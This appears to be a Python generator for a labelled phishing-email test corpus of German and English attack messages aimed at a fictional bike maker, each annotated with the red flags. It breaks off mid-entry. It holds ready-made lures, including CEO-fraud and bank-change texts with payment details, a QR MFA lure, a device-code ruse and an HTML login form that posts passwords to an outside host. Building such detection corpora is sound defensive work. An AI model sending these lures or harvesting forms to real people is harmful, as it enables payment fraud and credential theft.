"""Attack messages 01-16: German (01-08) and English (09-16)."""
import ident as I
import infra
from compose import alt, att, html_only, mixed, plain, related
from kit import (B, H, PLACEHOLDER, pdf, qdate, qr_png, sig_lief, zip_)
from mime import esp_html, esp_text
from people import LIEF, OFFICES, S, C

SPECS = []


def add(**kw):
    kw.setdefault('folder', 'attack')
    SPECS.append(kw)


# ---------------------------------------------------------------- 01 DE CEO fraud
ESCROW_PT = I.pt_iban('0010', '0000', '52814730172')
add(num=1, lang='de', slug='ceo-fraud-projekt-alpenblick', when='2026-11-05 16:47:12',
    route=lambda c: infra.smtp_host(
        c, ('mail.example-group.eu', 'vmi2287431.contaboserver.net', '62.171.151.38'),
        client=('localhost', 'localhost', '127.0.0.1'), mua='rc', tls='tls13',
        host='mail.example-group.eu'),
    frm=('Jürgen Hoffmann', 'juergen.hoffmann@example-group.eu'),
    to=[S['cfo']],
    reply_to=('Jürgen Hoffmann', 'j.hoffmann@examplegroup-eu.com'),
    subject='Vertraulich – Projekt Alpenblick',
    body=plain('''Frau Krüger,

ich sitze seit heute Morgen in Amsterdam in den Verhandlungen zu Projekt „Alpenblick“ – der geplanten Mehrheitsbeteiligung an einem niederländischen E-Bike-Hersteller. Die Gesellschafter haben heute Mittag zugestimmt, die Exklusivitätsvereinbarung wird morgen um 9 Uhr unterzeichnet.

Voraussetzung ist eine Sicherheitsleistung von 286.500,00 EUR, die heute bis 17:30 Uhr auf dem Anderkonto der begleitenden Kanzlei eingehen muss. Dr. Markus Feldmann (Feldmann Van Dijk Advocaten) meldet sich gleich per E-Mail bei Ihnen und schickt Ihnen die Unterlagen.

Anderkonto:
Kontoinhaber: Feldmann Van Dijk Advocaten – Derdengelden
IBAN: %s
BIC: BBPIPTPL
Verwendungszweck: ALPENBLICK / EXKL-2611

Da der Verkäufer börsennotiert ist, fällt die Transaktion bis zur Ad-hoc-Mitteilung unter die Insiderregeln (MAR). Bitte sprechen Sie deshalb mit niemandem darüber, auch nicht mit Herrn Braun oder der Buchhaltung – die Zuordnung klären wir nach der Veröffentlichung. Ich bin den ganzen Nachmittag in Gesprächen und telefonisch nicht erreichbar, bitte antworten Sie nur per E-Mail.

Geben Sie mir kurz Bescheid, sobald die Zahlung raus ist.

Jürgen Hoffmann
Geschäftsführer
Example Group GmbH''' % I.fmt_iban(ESCROW_PT), 'utf-8', '8bit', flowed=True),
    tech='CEO fraud (BEC) with look-alike domain and fake lawyer follow-up',
    infra='Look-alike domain example-group.eu on a Contabo VPS, Roundcube; Reply-To on a third domain',
    what='"CEO" asks the CFO for an urgent confidential escrow payment of 286,500 EUR for an acquisition',
    why='Sender domain example-group.eu is not example.com/examplegroup.eu (hyphenated look-alike on a rented VPS); '
        'Reply-To diverts to examplegroup-eu.com; secrecy ("insider rules", do not tell colleagues), '
        'same-day deadline, CEO unreachable by phone, payment outside the approval process to a Portuguese '
        '"client account" of an unknown law firm. Genuine counterpart: business 01.',
    checks={'iban': [ESCROW_PT]})

# ---------------------------------------------------------------- 02 DE supplier bank change
MULE_DE = I.de_iban('30020900', '561207843')
_l02 = '''Sehr geehrte Frau Weiß,

im Zuge der Zusammenführung unseres Zahlungsverkehrs bei unserer neuen Hausbank ändert sich zum 01.11.2026 die Bankverbindung der Lieferant GmbH. Das Schreiben unserer Geschäftsführung finden Sie im Anhang.

Bitte passen Sie die Stammdaten in Ihrem System an und leisten Sie alle offenen und künftigen Zahlungen ausschließlich auf die neue Verbindung. Dies betrifft insbesondere unsere Rechnung RE-2026-10412 über 48.316,20 EUR (fällig am 28.10.2026).

Neue Bankverbindung:
Kontoinhaber: Lieferant GmbH
Bank: TARGOBANK AG
IBAN: %s
BIC: CMCIDEDD

Unser bisheriges Konto bei der Sparkasse Schweinfurt-Haßberge wird zum Monatsende aufgelöst. Dort eingehende Zahlungen werden automatisch zurückgebucht, was zu Verzögerungen bei Ihren Abrufen führen kann.

Wegen der Umstellung unserer Telefonanlage sind wir diese Woche telefonisch nur eingeschränkt erreichbar. Für Rückfragen antworten Sie bitte direkt auf diese E-Mail. Über eine kurze Bestätigung der Umstellung würden wir uns freuen.

Vielen Dank für Ihre Unterstützung.

Mit freundlichen Grüßen
''' % I.fmt_iban(MULE_DE) + sig_lief('Petra Lang', 'Vertriebsinnendienst / Debitorenmanagement', '214',
                                     'p.lang@lieferant-gmhb.de')
_p02 = pdf([H('Lieferant GmbH'), 'Hafenstraße 21 · 97424 Schweinfurt', '',
            'Example Group GmbH', 'Kreditorenbuchhaltung', 'Tullastraße 84', '79108 Freiburg im Breisgau', '',
            'Schweinfurt, 19.10.2026', '',
            B('Mitteilung über die Änderung unserer Bankverbindung'), '',
            'Sehr geehrte Damen und Herren,', '',
            'wir teilen Ihnen mit, dass sich unsere Bankverbindung mit Wirkung zum 01.11.2026 ändert.',
            'Bitte veranlassen Sie alle Zahlungen ab sofort ausschließlich auf folgendes Konto:', '',
            'Kontoinhaber: Lieferant GmbH', 'Kreditinstitut: TARGOBANK AG',
            'IBAN: ' + I.fmt_iban(MULE_DE), 'BIC: CMCIDEDD', '',
            'Die bisherige Bankverbindung bei der Sparkasse Schweinfurt-Haßberge ist ab diesem Zeitpunkt',
            'nicht mehr gültig. Wir bitten um Bestätigung per E-Mail.', '',
            'Mit freundlichen Grüßen', '', 'Dr. Klaus Reinhardt', 'Geschäftsführer', '',
            ('Lieferant GmbH · Amtsgericht Schweinfurt HRB 4821 · USt-IdNr. ' + LIEF['vat'], 7, False)],
           'Bankverbindung', 'Admin', 'Microsoft® Word für Microsoft 365',
           'Microsoft® Word für Microsoft 365', '2026-10-19 18:02')
add(num=2, lang='de', slug='lieferant-bankverbindung-lookalike', when='2026-10-20 10:12:40',
    route=lambda c: infra.exchange_online(c, region='eurprd04', tenant='lieferant-gmhb', lang='de-DE'),
    frm=('Petra Lang', 'p.lang@lieferant-gmhb.de'), to=[S['ap']],
    cc=[('Stefan Maier', 's.maier@lieferant-gmhb.de')],
    subject='Änderung unserer Bankverbindung ab 01.11.2026 - Lieferant GmbH',
    body=mixed(alt(_l02, 'iso-8859-1', lang='DE'),
               att(_p02, 'application/pdf', 'Mitteilung_Bankverbindung_Lieferant_GmbH.pdf')),
    tech='Supplier bank-detail change (vendor email compromise) from a look-alike domain',
    infra='Look-alike lieferant-gmhb.de on its own Microsoft 365 tenant (eurprd04)',
    what='"Petra Lang" of Lieferant GmbH announces a new bank account and asks to redirect an open invoice',
    why='Domain lieferant-gmhb.de swaps two letters of lieferant-gmbh.de and sits on a different M365 tenant '
        'than the genuine supplier (DEUP281); new account at a different bank, old account "closed" within days, '
        'open invoice named, phone verification discouraged, confirmation only by reply; PDF unsigned, '
        'author "Admin". Genuine counterpart: business 02.',
    checks={'iban': [MULE_DE]})

# ---------------------------------------------------------------- 03 DE thread hijack
LEH_MID = '<5f2c81d0a7e94b3c9e1d24a8b07c6e13@EX01.corp.example.com>'
_l03 = '''Guten Morgen Herr Lehmann,

wie angekündigt anbei die korrigierte Auftragsbestätigung AB-26-11873 mit den neuen Lieferterminen (Teillieferung 800 Stück in KW 48, Rest in KW 50) und den angepassten Staffelpreisen für 2027.

Aufgrund neuer Vorgaben unserer IT stellen wir Auftragsbestätigungen und Rechnungen ab sofort nur noch über unser geschütztes Kundenportal bereit:

[[AB-26-11873 (PDF, 214 KB) öffnen|https://lieferant-kundenportal.pages.dev/ab/26-11873?c=EXG-40117]]

Bitte melden Sie sich dort mit Ihrem Microsoft-365-Konto an und geben Sie die AB bis heute 12:00 Uhr frei, damit wir den Slot bei der Spedition halten können.

Mit freundlichen Grüßen
''' + sig_lief('Stefan Maier', 'Key Account Management', '231', 's.maier@lieferant-gmbh.de') + '''
-----QUOTE-----
Von: Markus Lehmann <markus.lehmann@example.com>
Gesendet: %s
An: Stefan Maier <s.maier@lieferant-gmbh.de>
Cc: Dieter Mühlbauer <dieter.muehlbauer@example.com>
Betreff: Bestellung 4500031187 - Achsen HM-250 / Liefertermin KW 48

Hallo Herr Maier,

zu unserer Bestellung 4500031187 (2.400 Stück Achsen HM-250 für die Nabenmotoren): Können Sie den Termin KW 48 halten? Unsere Montage plant die Serie Trekking E-7 ab KW 49. Falls nicht, bräuchten wir mindestens eine Teillieferung von 800 Stück.

Viele Grüße
Markus Lehmann
Leitung Einkauf
Example Group GmbH''' % qdate('de', '2026-11-12 16:41')
add(num=3, lang='de', slug='lieferant-thread-hijack', when='2026-11-17 06:58:03',
    route=lambda c: infra.exchange_online(c, region='DEUP281', tenant='lieferant', lang='de-DE',
                                          srv=('FR2P281MB1143', 'BEZP281MB2871'), replies=1),
    frm=LIEF['maier'], to=[S['proc']], cc=[S['buyer']],
    in_reply_to=LEH_MID,
    subject='AW: Bestellung 4500031187 - Achsen HM-250 / Liefertermin KW 48',
    body=alt(_l03, 'utf-8', lang='DE'),
    tech='Thread hijack from a genuinely compromised supplier mailbox; credential phishing link on Cloudflare Pages',
    infra="Lieferant GmbH's real Microsoft 365 tenant (same servers as its genuine mail)",
    what='Reply in a real order thread with a link to a "customer portal" to approve an order confirmation',
    why='The account is genuine but compromised: the link leads to lieferant-kundenportal.pages.dev (free '
        'Cloudflare Pages host, not a Lieferant system) and asks for a Microsoft 365 sign-in; Lieferant has '
        'always sent PDFs/XRechnung as attachments (business 03/04); sent 06:58, deadline 12:00, new '
        '"IT rules" pretext. The quoted message is the real earlier thread.',
    checks={})

# ---------------------------------------------------------------- 04 DE payroll diversion
PAYROLL_IBAN = I.de_iban('12030000', '104478562')
add(num=4, lang='de', slug='payroll-diversion-gmx', when='2026-11-19 07:31:44',
    route=lambda c: infra.united_internet(c, 'gmx', 'webmail', client_ip='80.187.118.203'),
    frm=('Julia Becker', 'julia.becker.fr@gmx.de'), to=[S['hr']],
    subject='Änderung Bankverbindung Gehalt',
    body=plain('''Hallo Herr Schäfer,

ich habe meine Bank gewechselt und wollte Sie bitten, meine Gehaltszahlung ab der Novemberabrechnung auf mein neues Konto umzustellen:

Kontoinhaberin: Julia Becker
IBAN: %s
Bank: Deutsche Kreditbank AG (DKB)

Das alte Konto bei der Volksbank wird Ende des Monats aufgelöst, deshalb wäre es super, wenn das noch vor dem Abrechnungslauf klappt.

Ich schreibe Ihnen von meiner privaten Adresse, weil ich diese Woche bei Händlern im Schwarzwald unterwegs bin und Outlook auf dem Handy gerade nicht synchronisiert. Eine kurze Rückmeldung hierher reicht mir völlig.

Vielen Dank und viele Grüße
Julia Becker''' % I.fmt_iban(PAYROLL_IBAN), 'utf-8', 'quoted-printable'),
    tech='Payroll diversion (employee impersonation from free mail)',
    infra='GMX webmail (freemail), display name of an employee',
    what='"Julia Becker" asks HR to pay her salary to a new account, from a private address',
    why='Unknown private address (Julia writes from jbecker.fr@web.de, see business 05), request arrives '
        'just before the payroll cut-off, bank change by plain e-mail instead of the signed HR form, '
        'pre-empts a call ("Outlook not syncing"), asks for confirmation to the private address.',
    checks={'iban': [PAYROLL_IBAN]})

# ---------------------------------------------------------------- 05 DE fake register offer
REG_IBAN = I.es_iban('0049', '1500', '2310829417')
_b05 = [
    ('p', 'Sehr geehrte Damen und Herren,\n\nzur Aktualisierung Ihres Eintrags im Zentralen Gewerbe- und '
          'Firmenregister (ZGFR) übersenden wir Ihnen die Eintragungsunterlagen für das Geschäftsjahr 2027. '
          'Bitte prüfen Sie die nachstehenden Angaben.'),
    ('table', [('Firma', 'Example Group GmbH'), ('Register', 'Amtsgericht Freiburg, HRB 712345'),
               ('Anschrift', 'Tullastraße 84, 79108 Freiburg im Breisgau'),
               ('Branche', 'Herstellung von Fahrrädern und E-Bikes (WZ 30.92)'),
               ('Aktenzeichen', 'ZGF-2026-188415'),
               ('Eintragungsgebühr 2027', '1.090,76 € zzgl. 19 % USt = 1.298,00 €')]),
    ('p', 'Die Zahlung erbitten wir innerhalb von 14 Tagen unter Angabe des Aktenzeichens auf folgendes '
          'Konto:\n\nEmpfänger: ZGFR Datendienste S.L.\nIBAN: %s\nBIC: BSCHESMMXXX\n'
          'Verwendungszweck: ZGF-2026-188415' % I.fmt_iban(REG_IBAN)),
    ('p', 'Die vollständigen Unterlagen finden Sie im Anhang dieser Nachricht.'),
    ('small', 'Hinweis: Die Eintragung im ZGFR ist ein privatwirtschaftliches Angebot eines Verzeichnisdienstes '
              'und steht in keiner Verbindung zum Handelsregister, Unternehmensregister oder zu sonstigen '
              'amtlichen Registern. Mit der Zahlung nehmen Sie das Angebot über eine Mindestlaufzeit von drei '
              'Jahren zu einer jährlichen Gebühr in der genannten Höhe an. Es gelten unsere AGB.'),
]
_f05 = 'ZGFR Datendienste S.L. · Calle de Orense 34, 28020 Madrid · CIF B88412736\n[[Abmelden|https://gewerbe-firmenregister.de/abmelden]]'
_p05 = pdf([H('Zentrales Gewerbe- und Firmenregister'), 'ZGFR Datendienste S.L. · Calle de Orense 34 · 28020 Madrid', '',
            'Example Group GmbH', 'Tullastraße 84', '79108 Freiburg im Breisgau', '',
            B('Eintragungsofferte / Rechnung Nr. ZGF-2026-188415'), 'Datum: 08.10.2026', '',
            'Registergericht: Amtsgericht Freiburg · HRB 712345', 'Branche: WZ 30.92 Herstellung von Fahrrädern',
            '', 'Eintragung Basis-Profil 2027                        1.090,76 EUR',
            'zzgl. 19 % USt                                        207,24 EUR',
            B('Gesamtbetrag                                          1.298,00 EUR'), '',
            'Zahlbar innerhalb von 14 Tagen an: ZGFR Datendienste S.L.',
            'IBAN ' + I.fmt_iban(REG_IBAN) + ' · BIC BSCHESMMXXX', '',
            ('Bei diesem Schreiben handelt es sich um ein Angebot. Die Eintragung ist ein privater Verzeichnisdienst', 7, False),
            ('ohne Verbindung zu amtlichen Registern. Durch Zahlung kommt ein Vertrag über 3 Jahre zustande.', 7, False)],
           'Eintragungsofferte ZGF-2026-188415', 'ZGFR', 'wkhtmltopdf 0.12.6', 'Qt 4.8.7', '2026-10-08 08:55')
add(num=5, lang='de', slug='fake-register-offerte-brevo', when='2026-10-08 09:05:51',
    route=lambda c: infra.brevo(c),
    frm=('Zentrales Gewerbe- und Firmenregister', 'eintragung@gewerbe-firmenregister.de'),
    to=[S['ap']],
    subject='Eintragung Example Group GmbH – HRB 712345 – Aktenzeichen ZGF-2026-188415',
    extra=[('List-Unsubscribe', '<https://gewerbe-firmenregister.de/abmelden?id=188415>'),
           ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click')],
    body=mixed(alt(None, 'utf-8', 'quoted-printable', 'quoted-printable',
                   html=esp_html(_b05, '#1d3f72', 'ZGFR', _f05, 'Eintragung 2027 – Aktenzeichen ZGF-2026-188415',
                                 logo_text='Zentrales Gewerbe- und Firmenregister'),
                   text=esp_text(_b05, _f05)),
               att(_p05, 'application/pdf', 'ZGF-2026-188415_Eintragungsofferte.pdf')),
    tech='Fake register / directory invoice (offer disguised as an official invoice)',
    infra='Brevo (Sendinblue) bulk ESP, sender domain gewerbe-firmenregister.de',
    what='Invoice-like "registration fee" of 1,298 EUR for an entry in a "central company register"',
    why='Quotes the real HRB number to look official, but the small print says it is a private directory '
        'offer and payment signs a three-year contract; no business relationship, payment to a Spanish '
        'account of a Madrid shell, sent in bulk via an ESP.',
    checks={'iban': [REG_IBAN]})

# ---------------------------------------------------------------- 06 DE DocuSign SVG
_svg06 = ('''<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="420" viewBox="0 0 640 420">
  <rect width="640" height="420" fill="#f4f4f4"/>
  <rect x="40" y="30" width="560" height="360" fill="#ffffff" stroke="#dddddd"/>
  <rect x="40" y="30" width="560" height="8" fill="#ffcc22"/>
  <text x="70" y="80" font-family="Arial, Helvetica, sans-serif" font-size="22" font-weight="bold" fill="#1e1e1e">DocuSign</text>
  <text x="70" y="130" font-family="Arial, Helvetica, sans-serif" font-size="16" fill="#333333">Andrea Kessler hat Ihnen ein Dokument zur Unterschrift gesendet</text>
  <text x="70" y="165" font-family="Arial, Helvetica, sans-serif" font-size="14" fill="#666666">Rahmenvertrag_2027_ExampleGroup.pdf · 3 Seiten</text>
  <a xlink:href="https://esign-dokumente.com/view/?d=RV2027&amp;e=bWFya3VzLmxlaG1hbm5AZXhhbXBsZS5jb20=" target="_blank">
    <rect x="70" y="200" width="230" height="46" rx="3" fill="#ffcc22"/>
    <text x="185" y="229" text-anchor="middle" font-family="Arial, Helvetica, sans-serif" font-size="15" font-weight="bold" fill="#1e1e1e">DOKUMENT PRÜFEN</text>
  </a>
  <text x="70" y="300" font-family="Arial, Helvetica, sans-serif" font-size="11" fill="#999999">Diese Nachricht enthält einen sicheren Link. Bitte nicht weiterleiten.</text>
  <text x="70" y="320" font-family="Arial, Helvetica, sans-serif" font-size="11" fill="#999999">Powered by DocuSign</text>
</svg>
''').encode('utf-8')
add(num=6, lang='de', slug='docusign-svg-compromised-strato', when='2026-12-02 11:20:37',
    route=lambda c: infra.smtp_host(
        c, ('mo4-p00-ob.smtp.rzone.de', 'mo4-p00-ob.smtp.rzone.de', '81.169.146.178'),
        mta='strato', client=('[192.168.178.41]',), mua='olk16', lang='de',
        domain='malerbetrieb-kessler.de', tls='tls13'),
    frm=('Andrea Kessler', 'a.kessler@malerbetrieb-kessler.de'), to=[S['proc']],
    subject='Rahmenvertrag 2027 - Unterlagen zur Unterschrift (DocuSign)',
    body=mixed(alt('''Sehr geehrter Herr Lehmann,

anbei erhalten Sie den Rahmenvertrag 2027 inkl. Preisanlage zur Prüfung und digitalen Unterschrift über DocuSign.

Das Dokument öffnen Sie direkt über den Anhang im Browser. Die Unterschrift ist bis Freitag, 04.12.2026, möglich.

Mit freundlichen Grüßen

Andrea Kessler
Kessler Malerbetrieb GmbH
Gewerbestraße 7 | 77933 Lahr/Schwarzwald
Tel. 07821 98 74 60''', 'iso-8859-1', lang='DE'),
               att(_svg06, 'image/svg+xml', 'Rahmenvertrag_2027_ExampleGroup.svg',
                   note='SVG lure, link only, no script')),
    tech='SVG attachment impersonating DocuSign, sent from a compromised third-party mailbox',
    infra='Compromised mailbox of an unrelated painting business on Strato (RZmta), Outlook 16',
    what='Painting contractor sends a "DocuSign" framework contract as an SVG file',
    why='No business relationship (Example Group buys no painting services under a "framework contract"); '
        'DocuSign never delivers documents as SVG; the SVG renders a DocuSign card whose button leads to '
        'esign-dokumente.com with the recipient address base64-encoded (credential phishing); sender mailbox '
        'is real but compromised.',
    checks={})

# ---------------------------------------------------------------- 07 DE quishing
QR07 = 'https://auth.examplegroup-support.com/mfa/?u=bW9uaWthLndlaXNzQGV4YW1wbGUuY29t&r=7731'
_b07 = [
    ('p', 'Hallo Monika Weiß,\n\ngemäß der neuen Sicherheitsrichtlinie der Example Group müssen alle Konten bis '
          'zum 23.10.2026 die Multi-Faktor-Authentifizierung (MFA) für Microsoft 365 neu registrieren. Für Ihr '
          'Konto **monika.weiss@example.com** ist die Neuregistrierung noch nicht abgeschlossen.'),
    ('p', 'Bitte scannen Sie den folgenden QR-Code mit der Kamera Ihres Smartphones und folgen Sie den '
          'Anweisungen. Der Vorgang dauert etwa zwei Minuten.'),
    ('img', 'qr-mfa-7731@examplegroup-support.com', 'QR-Code MFA-Registrierung', 180,
     '[QR-Code – bitte die HTML-Ansicht verwenden]'),
    ('p', 'Nach Ablauf der Frist wird der Zugriff auf Outlook, Teams und SharePoint bis zur Freischaltung '
          'durch den IT-Service gesperrt.'),
    ('small', 'Referenz: MFA-RE-2026-10-7731\nIT-Service | Example Group'),
]
add(num=7, lang='de', slug='m365-mfa-quishing-ses', when='2026-10-22 08:03:27',
    route=lambda c: infra.ses(c),
    frm=('IT-Service Example Group', 'it-service@examplegroup-support.com'), to=[S['ap']],
    subject='Aktion erforderlich: MFA-Registrierung für monika.weiss@example.com läuft am 23.10.2026 ab',
    body=lambda r: related(
        alt(None, 'utf-8', html=esp_html(_b07, '#0f6cbd', 'Microsoft 365', '', 'Ihre MFA-Registrierung läuft ab',
                                         logo_text='Microsoft 365 · Example Group'),
            text=esp_text(_b07)),
        att(qr_png(QR07), 'image/png', 'mfa-qr.png', inline=True,
            cid='qr-mfa-7731@examplegroup-support.com', note='QR code')),
    tech='Quishing (QR code in inline PNG) for Microsoft 365 credentials/MFA',
    infra='Amazon SES (eu-west-1), look-alike domain examplegroup-support.com',
    what='"IT-Service" demands MFA re-registration by scanning a QR code before a deadline',
    why='External look-alike sender domain pretending to be internal IT; the URL is hidden in a QR image '
        '(to move the victim to an unmanaged phone) and leads to auth.examplegroup-support.com with the '
        'victim address base64-encoded; threat of lockout; genuine IT notices come through the internal '
        'relay and point to Microsoft/intranet pages (business 08).',
    checks={'qr': [QR07]})

# ---------------------------------------------------------------- 08 DE regulator (Stiftung EAR)
def _body08(r):
    rng = __import__('util').rng_for('a08link')
    lk = infra.sendgrid_link(rng, r.sg_acct, '')
    b = [('p', 'Sehr geehrte Damen und Herren,\n\nmit dem Batterierecht-Durchführungsgesetz (BattDG) und der '
               'EU-Batterieverordnung (EU) 2023/1542 sind Hersteller von Batterien für leichte Verkehrsmittel '
               '(LV-Batterien, u. a. E-Bike-Akkus) verpflichtet, ihre Registrierung zu bestätigen und die '
               'Beteiligung an einer Organisation für Herstellerverantwortung nachzuweisen.'),
         ('p', 'Für Ihre Registrierung **DE 61384207** (Example Group GmbH) liegt dieser Nachweis bislang nicht '
               'vor. Bitte melden Sie sich bis zum **06.11.2026** im ear-Portal an und bestätigen Sie Ihre '
               'Angaben.'),
         ('btn', 'Registrierung bestätigen', lk),
         ('p', 'Erfolgt bis zum Fristablauf keine Bestätigung, wird die Registrierung widerrufen. Das '
               'Inverkehrbringen von Batterien ohne gültige Registrierung ist untersagt und kann mit einem '
               'Bußgeld von bis zu 100.000 Euro geahndet werden.'),
         ('p', 'Mit freundlichen Grüßen\nstiftung elektro-altgeräte register\nFachbereich Batterien')]
    foot = 'stiftung elektro-altgeräte register · Nordostpark 72 · 90411 Nürnberg\nDiese E-Mail wurde automatisch erstellt.'
    return alt(None, 'utf-8', html=esp_html(b, '#005a8c', 'stiftung ear', foot,
                                             'BattDG: Nachweis bis 06.11.2026', logo_text='stiftung ear'),
               text=esp_text(b, foot))


add(num=8, lang='de', slug='stiftung-ear-battdg-sendgrid', when='2026-10-27 13:40:09',
    route=lambda c: infra.sendgrid(c, 'em4812.stiftung-ear-portal.de', acct=48213771),
    frm=('stiftung ear – Registrierung', 'registrierung@stiftung-ear-portal.de'), to=[S['buyer']],
    subject='BattDG: Nachweis der Herstellerverantwortung für LV-Batterien – Frist 06.11.2026 (Reg.-Nr. DE 61384207)',
    body=_body08,
    tech='Regulator impersonation (battery-law registration body), credential phishing',
    infra='SendGrid (click-tracking links hide the destination), look-alike stiftung-ear-portal.de',
    what='"stiftung ear" threatens revocation of the battery registration unless the user logs in',
    why='The register operates at stiftung-ear.de and its own portal, not stiftung-ear-portal.de; '
        'deadline plus 100,000 EUR fine threat; tracked button hides a login page; trade-specific lure '
        '(e-bike batteries are LMT batteries under the new EU Battery Regulation).',
    checks={})

# ================================================================= ENGLISH
# ---------------------------------------------------------------- 09 EN device code
add(num=9, lang='en', slug='device-code-phishing-pennine', when='2026-11-10 15:22:18',
    route=lambda c: infra.exchange_online(c, region='GBRP265', tenant='pennine', lang='en-GB',
                                          srv=('CWLP265MB5521', 'LO2P265MB2290'), mobile=True),
    frm=C['pennine']['contacts'][0], to=[S['uk_mgr']],
    subject='2027 pre-season forecast - shared in Teams',
    body=alt('''Hi Oliver,

Good to see you at the show last week. As promised, I've put our 2027 pre-season forecast (e-MTB and trekking, split by store) into a shared Teams workspace so our buyer and your team can comment directly.

To open it, go to https://microsoft.com/devicelogin and enter this code:

GZ8K4RTQX

The code is only valid for 15 minutes, so if it has expired just reply and I'll send you a new one. Would be great to have your first comments before our board meeting on Thursday.

Cheers,
James

[[Get Outlook for iOS|https://aka.ms/o0ukef]]''', 'utf-8', 'base64', 'base64', lang='EN-GB'),
    tech='Device-code phishing (OAuth device authorisation grant) from a compromised partner mailbox',
    infra="Pennine Cycles' genuine Microsoft 365 tenant (GBRP265), Outlook for iOS",
    what='Dealer contact asks to open a "Teams workspace" by entering a code at microsoft.com/devicelogin',
    why='The URL is Microsoft\'s real one, but the code was generated by the attacker: entering it signs the '
        'attacker\'s session in as Oliver (token theft, MFA bypassed). Partners do not share files via '
        'device codes; 15-minute pressure; the dealer mailbox is genuine but compromised (compare business 11/13).',
    checks={})

# ---------------------------------------------------------------- 10 EN gift cards
add(num=10, lang='en', slug='gift-card-request-gmail', when='2026-12-11 11:15:02',
    route=lambda c: infra.gmail(c, zone='UK'),
    frm=('Oliver Bennett', 'oliver.bennett.exgroup@gmail.com'), to=[S['uk_acc']],
    subject='Quick favour',
    body=alt('''Hannah,

Are you at your desk? I'm stuck in back-to-back meetings with the dealer group in Leeds and can't take calls at the moment.

I need you to sort something out for me quickly – a Christmas thank-you for the store managers of our top 8 dealers. Could you pick up 8 x £100 Apple gift cards (Tesco or Sainsbury's have them, or online)? Put it on your card and I'll sign off your expense claim as soon as I'm back.

Once you have them, scratch off the backs, take a clear photo of each card showing the code and email them to me here. Please keep it to yourself for now, it's meant to be a surprise.

Thanks,
Oliver

Sent from my iPhone''', 'utf-8'),
    tech='Gift-card scam (manager impersonation)',
    infra='Gmail freemail account with the manager\'s display name',
    what='"Oliver Bennett" asks the UK accountant to buy eight £100 Apple gift cards and send the codes',
    why='Private Gmail address, not oliver.bennett@example.com; gift cards + photos of codes, secrecy, '
        'unreachable by phone, personal card to be reimbursed later - classic gift-card fraud.',
    checks={})

# ---------------------------------------------------------------- 11 EN PayPal TOAD
_b11 = [('p', 'Hello Example Group UK Ltd,'),
        ('h', 'Norton Billing Centre sent you an invoice for £389.99 GBP'),
        ('table', [('Invoice number', 'INV-2026-448193'), ('Due date', 'Due on receipt'),
                   ('Amount due', '£389.99 GBP')]),
        ('p', '**Seller note to customer:**\nYour Norton 360 Total Protection (5 devices, 3 years) has been '
              'renewed and will be charged to your account. If you did not authorise this renewal or wish to '
              'cancel and receive a full refund, call our billing department within 24 hours on '
              '+44 20 3769 4418 (Mon-Sun, 24h). Do not pay online if you want to cancel.'),
        ('btn', 'View and Pay Invoice', 'https://www.paypal.com/invoice/p/#INV2-7KXQ-4PLM-9ZRT-W3HD'),
        ('small', "Don't recognise this invoice? [[Report this invoice|https://www.paypal.com/invoice/s/report/INV2-7KXQ-4PLM-9ZRT-W3HD]]\n"
                  'Before paying, make sure you recognise this invoice. If you don\'t, report it.'),
        ]
_f11 = 'PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.\nCopyright © 1999-2026 PayPal. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg.'
add(num=11, lang='en', slug='paypal-invoice-callback-toad', when='2026-10-29 03:12:55',
    route=lambda c: infra.paypal(c, 'PPX000658'),
    frm=('service@paypal.co.uk', 'service@paypal.co.uk'), to=[S['uk_acc']],
    subject='Invoice from Norton Billing Centre (INV-2026-448193)',
    body=alt(None, 'utf-8', html=esp_html(_b11, '#003087', 'PayPal', _f11, logo_text='PayPal', lang='en'),
             text=esp_text(_b11, _f11)),
    tech='Callback phishing (TOAD) through an abused genuine service (PayPal invoicing)',
    infra='PayPal\'s real mail infrastructure; the "merchant" is an attacker-controlled PayPal account',
    what='PayPal invoice for a £389.99 "Norton renewal" with a phone number to cancel',
    why='Nobody at Example Group bought Norton via PayPal; the seller note pushes the victim to call a '
        'number "to cancel" - the call leads to refund fraud and remote-access tools. Sent at 03:12; '
        'headers are genuinely PayPal, so only the content reveals it (compare business 16).',
    checks={})

# ---------------------------------------------------------------- 12 EN HTML remittance
_h12 = ('''<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Remittance Advice PC-88213</title>
<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2;margin:0}
.box{width:440px;margin:70px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-size:24px;font-weight:600;margin:16px 0}input{width:100%;padding:8px 0;border:0;border-bottom:1px solid #666;font-size:15px;margin:10px 0}
button{background:#0067b8;color:#fff;border:0;padding:9px 34px;font-size:15px;float:right}</style></head>
<body><div class="box">
<div style="font-size:20px;color:#737373">Microsoft</div>
<h1>Sign in to view document</h1>
<p style="font-size:14px">Remittance Advice PC-88213 &middot; Pennine Cycles Ltd &middot; GBP 18,742.50</p>
<form method="post" action="https://secure-remit-docs.com/office/auth.php">
<input type="hidden" name="ref" value="PC-88213">
<input type="email" name="login" value="hannah.clarke@examplegroup.eu">
<input type="password" name="passwd" placeholder="Password">
<p style="font-size:13px"><a href="#">Forgot my password</a></p>
<button type="submit">Sign in</button>
</form><div style="clear:both"></div></div></body></html>
''').encode('utf-8')
add(num=12, lang='en', slug='html-attachment-remittance-lookalike', when='2026-10-27 17:05:33',
    route=lambda c: infra.smtp_host(
        c, ('srv554321.hstgr.cloud', 'srv554321.hstgr.cloud', '145.223.81.64'), mta='exim',
        client=('[192.168.1.10]', 'unknown', '102.89.43.17'), mua='olk16', lang='en-gb',
        host='srv554321.hstgr.cloud', zone='UK', tls='tls13'),
    frm=('Pennine Cycles Accounts', 'accounts@pennine-cycles.co.uk'), to=[S['uk_acc']],
    subject='Remittance Advice - BACS Payment 27/10/2026 - Ref PC-88213',
    body=mixed(alt('''Good afternoon,

Please find attached our remittance advice for the BACS payment made today against your invoices listed in the document.

Payment reference: PC-88213
Amount: GBP 18,742.50
Value date: 27/10/2026

The attachment is a secure document; please open it in your browser and sign in with your company email to view the full breakdown.

Kind regards,

Accounts Department
Pennine Cycles Ltd
